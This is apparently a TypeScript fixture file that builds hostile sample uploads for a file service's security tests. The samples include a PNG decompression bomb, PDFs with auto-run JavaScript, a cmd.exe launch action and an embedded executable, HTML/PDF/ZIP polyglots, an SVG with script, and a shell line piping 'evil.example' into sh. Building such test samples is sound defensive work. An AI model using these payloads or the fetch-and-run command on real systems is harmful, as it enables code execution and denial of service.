import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Real sample files for the file-service tests, made on the fly: images encoded by sharp, PDFs
 * and archives written byte by byte. Used by the tests beside this file only.
 */

/** Makassar city hall, roughly. */
export const MAKASSAR_GPS = { lat: -5.1477, lng: 119.4327 };

function dms(value: number): string {
  const abs = Math.abs(value);
  const d = Math.floor(abs);
  const m = Math.floor((abs - d) * 60);
  const s = Math.round(((abs - d) * 60 - m) * 60 * 10000);
  return `${d}/1 ${m}/1 ${s}/10000`;
}

/** Deterministic noise so that JPEGs have realistic sizes and scan data. */
export function noise(width: number, height: number): Buffer {
  const buf = Buffer.alloc(width * height * 3);
  let x = 12345;
  for (let i = 0; i < buf.length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    buf[i] = x >> 16;
  }
  return buf;
}

function solid(width: number, height: number, colour = { r: 180, g: 60, b: 40 }) {
  return sharp({ create: { width, height, channels: 3, background: colour } });
}

/** A JPEG carrying an EXIF GPS position (and an orientation tag) written by sharp. */
export async function jpegWithGps(width = 640, height = 480, gps = MAKASSAR_GPS): Promise<Buffer> {
  return solid(width, height)
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: 'Balai Test Camera', Model: 'Secret Model 9000', Artist: 'Warga Rahasia' },
      IFD3: {
        GPSLatitudeRef: gps.lat < 0 ? 'S' : 'N',
        GPSLatitude: dms(gps.lat),
        GPSLongitudeRef: gps.lng < 0 ? 'W' : 'E',
        GPSLongitude: dms(gps.lng),
      },
    })
    .toBuffer();
}

export const jpeg = (width = 640, height = 480) => solid(width, height).jpeg().toBuffer();
export const png = (width = 300, height = 200) => solid(width, height, { r: 20, g: 120, b: 200 }).png().toBuffer();
export const webp = (width = 300, height = 200) => solid(width, height, { r: 20, g: 200, b: 120 }).webp().toBuffer();
export const gif = (width = 120, height = 90) => solid(width, height, { r: 250, g: 200, b: 0 }).gif().toBuffer();

/** A photo-like JPEG (noise) cut short: its scan data ends early. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await sharp(noise(800, 600), { raw: { width: 800, height: 600, channels: 3 } }).jpeg().toBuffer();
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** A noisy JPEG of about `bytes` or more. */
export async function bigJpeg(minBytes: number): Promise<Buffer> {
  let side = 600;
  for (;;) {
    const out = await sharp(noise(side, side), { raw: { width: side, height: side, channels: 3 } })
      .jpeg({ quality: 100 })
      .toBuffer();
    if (out.length >= minBytes) return out;
    side = Math.ceil(side * 1.4);
  }
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

/**
 * A valid PNG of 20000×20000 one-bit pixels of one colour (400 megapixels), about 50 KB: the
 * decompression bomb.
 */
export function bombPng(side = 20000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((1 + Math.ceil(side / 8)) * side);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The start of an iPhone HEIC photo: an ISO-BMFF `ftyp` box with brand `heic`. */
export function heicHeader(): Buffer {
  const ftyp = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic')]);
  const meta = Buffer.concat([Buffer.from([0, 0, 0, 0x20]), Buffer.from('meta'), Buffer.alloc(24)]);
  return Buffer.concat([ftyp, meta, Buffer.alloc(512)]);
}

/**
 * Writes a PDF from object bodies (object n is `bodies[n-1]`), with a correct xref table. Bodies
 * are latin1 strings so that binary stream data survives.
 */
export function buildPdf(bodies: string[], trailerExtra = ''): Buffer {
  let out = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

function streamObject(dict: string, data: string): string {
  return `<< ${dict} /Length ${Buffer.byteLength(data, 'latin1')} >>\nstream\n${data}\nendstream`;
}

const PAGE_TEXT = 'BT /F1 18 Tf 72 760 Td (Surat Keterangan Domisili - Kelurahan Karampuang) Tj ET';

/** The objects of a one-page letter; `catalogExtra` goes into the catalogue dictionary. */
function letterObjects(catalogExtra = ''): string[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    streamObject('', PAGE_TEXT),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
}

/** A minimal valid one-page PDF. */
export const plainPdf = () => buildPdf(letterObjects());

/** Opens with a JavaScript action. */
export const pdfWithJavaScript = () => buildPdf([...letterObjects('/OpenAction 6 0 R '), '<< /Type /Action /S /JavaScript /JS (app.alert\\("hai"\\);) >>']);

/** The same with its names hex-escaped (`/J#61vaScript`, `/J#53`), which readers still honour. */
export const pdfWithEscapedJavaScript = () => buildPdf([...letterObjects('/OpenAction 6 0 R '), '<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\);) >>']);

/** A launch action that runs a program. */
export const pdfWithLaunch = () => buildPdf([...letterObjects('/OpenAction 6 0 R '), '<< /Type /Action /S /Launch /F (cmd.exe) >>']);

/** A hidden attached file. */
export const pdfWithEmbeddedFile = () =>
  buildPdf([...letterObjects('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> '), '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', streamObject('/Type /EmbeddedFile', 'MZ payload')]);

/** The JavaScript action hidden inside a compressed object stream (PDF 1.5+). */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  const inner = '7 0 << /Type /Action /S /JavaScript /JS (app.alert\\(1\\);) >>';
  const header = '7 0 ';
  const data = deflateSync(Buffer.from(inner, 'latin1')).toString('latin1');
  return buildPdf([...letterObjects('/OpenAction 7 0 R '), `<< /Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode /Length ${Buffer.byteLength(data, 'latin1')} >>\nstream\n${data}\nendstream`]);
}

/** An object stream whose data is not valid Flate: it cannot be checked. */
export const pdfWithUnreadableObjectStream = () =>
  buildPdf([...letterObjects(), '<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 12 >>\nstream\nnot deflated\nendstream']);

/** Encrypted with the standard security handler. */
export const encryptedPdf = () =>
  buildPdf([...letterObjects(), '<< /Filter /Standard /V 1 /R 2 /O (0123456789abcdef0123456789abcdef) /U (0123456789abcdef0123456789abcdef) /P -44 >>'], '/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] ');

/** A valid PDF that is also an HTML page (the HTML sits in a stream browsers would sniff). */
export const pdfHtmlPolyglot = () => buildPdf([...letterObjects(), streamObject('', '<html><body><script>alert(document.cookie)</script></body></html>')]);

/** A valid PDF with a ZIP archive appended (readers of both formats accept it). */
export const pdfZipPolyglot = () => Buffer.concat([plainPdf(), zipArchive()]);

/** A PDF cut in half: no trailer, no %%EOF. */
export const truncatedPdf = () => plainPdf().subarray(0, 300);

/** A one-entry ZIP archive (stored, not compressed). */
export function zipArchive(name = 'laporan.txt', content = 'isi rahasia'): Buffer {
  const data = Buffer.from(content);
  const fname = Buffer.from(name);
  const crc = crc32(data) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fname.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fname.length, 28);
  central.writeUInt32LE(0, 42);
  const cdOffset = local.length + fname.length + data.length;
  const cdSize = central.length + fname.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fname, data, central, fname, end]);
}

export const svg = () =>
  Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
export const html = () => Buffer.from('<!DOCTYPE html><html><head><title>x</title></head><body><script>fetch("/api/v1/me")</script></body></html>');
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.from([0x3e, 0, 1, 0]), Buffer.alloc(200)]);
export function windowsExe(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

/** The HTML/ZIP payload appended to a JPEG in polyglot tests. */
export const APPENDED_HTML = '<html><script>alert("polyglot")</script></html>';

export interface Part {
  name: string;
  /** Present for file parts. */
  filename?: string;
  contentType?: string;
  data: Buffer | string;
}

/** A multipart/form-data body written by hand (what a browser sends). */
export function multipart(parts: Part[]): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----balaiTest${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    const head = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.contentType ? `Content-Type: ${p.contentType}\r\n` : ''}\r\n`;
    chunks.push(Buffer.from(head, 'utf8'), Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}
